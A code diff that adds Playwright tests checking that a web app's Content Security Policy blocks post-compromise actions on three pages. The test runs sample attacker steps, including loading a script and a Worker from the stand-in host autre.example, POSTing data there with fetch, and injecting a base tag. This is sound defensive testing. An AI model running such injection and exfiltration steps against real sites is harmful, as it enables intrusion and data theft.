@@ -114,8 +114,51 @@ for (const { path } of specifiedPages.filter((page) => page.path !== '/ear'))
     }
   });
 
+/** Runs in the page: what an attacker would do who could already run a little; gives what was not stopped. */
+async function tryEverything(): Promise<string[]> {
+  const factory = globalThis as {
+    trustedTypes?: { createPolicy: (name: string, rules: object) => unknown };
+  };
+  const attempts: Record<string, () => unknown> = {
+    'écrire du HTML': () => document.body.insertAdjacentHTML('beforeend', '<b>texte</b>'),
+    'écrire un gestionnaire': () => document.body.setAttribute('onclick', 'alert(1)'),
+    'écrire un script': () => {
+      document.createElement('script').text = 'alert(1)';
+    },
+    'charger un script d’ailleurs': () => {
+      document.createElement('script').src = 'https://autre.example/a.js';
+    },
+    'démarrer un travailleur': () => new Worker('https://autre.example/a.js'),
+    'créer une politique': () => factory.trustedTypes?.createPolicy('autre', {}),
+    'envoyer ailleurs': () => fetch('https://autre.example/', { method: 'POST', body: 'x' }),
+    'changer la base des adresses': () => {
+      const base = document.createElement('base');
+      base.href = 'https://autre.example/';
+      document.head.append(base);
+      if (document.baseURI === location.href) throw new Error('sans effet');
+    },
+  };
+  const survived: string[] = [];
+  for (const [name, attempt] of Object.entries(attempts))
+    try {
+      await attempt();
+      survived.push(name);
+    } catch {
+      // Stopped.
+    }
+  return survived;
+}
+
+for (const path of ['/gestion-compte/gerer', '/valider-attest', '/pages-simples/endAuth-FC'])
+  test(`the policy of ${path} stops what an attacker would do next`, async ({ page, faults }) => {
+    faults.provoked.push(/.*/);
+    await page.goto(path, { waitUntil: 'networkidle' });
+    expect(await page.evaluate(tryEverything)).toEqual([]);
+    expect(faults.violations.length).toBeGreaterThan(6);
+  });
+
 test('no page can be put into a frame of another site', async ({ page, faults }) => {
-  faults.expected.push(/frame-ancestors|X-Frame-Options/);
+  faults.provoked.push(/frame-ancestors|X-Frame-Options/);
   const frames = specifiedPages.map(
     ({ path }) => `<iframe src="http://localhost:PORT${path}"></iframe>`,
   );
